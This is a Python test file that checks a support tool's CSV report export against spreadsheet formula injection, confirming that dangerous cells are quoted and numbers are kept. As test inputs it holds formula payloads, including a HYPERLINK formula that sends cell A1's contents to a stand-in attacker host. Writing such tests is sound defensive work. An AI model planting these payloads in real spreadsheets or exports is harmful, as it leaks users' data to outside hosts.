"""Every CSV the reports write (the dashboard's, `supportbot report --format csv`) keeps a
spreadsheet from running text as a formula, and keeps numbers numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from supportbot.reports.render import as_text, to_csv


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-1+cmd", "@SUM(A1)",
     "\tx", "\rx", "-"],
)  # fmt: skip
def test_text_that_would_start_a_formula_is_quoted(cell: str) -> None:
    assert as_text(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["-150.00", "+3", "-7", "12", "plain words", "", "INC-1"])
def test_numbers_and_plain_text_are_kept(cell: str) -> None:
    assert as_text(cell) == cell


def test_a_waiver_reason_in_a_credits_csv_is_not_a_formula() -> None:
    rows = [
        {"key": "INC-1", "amount": Decimal("-5000.00"), "late_by_s": -3,
         "waiver_reason": '=HYPERLINK("http://evil.example","click")'},
    ]  # fmt: skip
    text = to_csv("Credits", rows, ("key", "amount", "late_by_s", "waiver_reason"), ())

    body = [line for line in text.splitlines() if not line.startswith("#")]
    [row] = list(csv.DictReader(io.StringIO("\n".join(body))))
    assert row == {
        "key": "INC-1", "amount": "-5000.00", "late_by_s": "-3",
        "waiver_reason": '\'=HYPERLINK("http://evil.example","click")',
    }  # fmt: skip
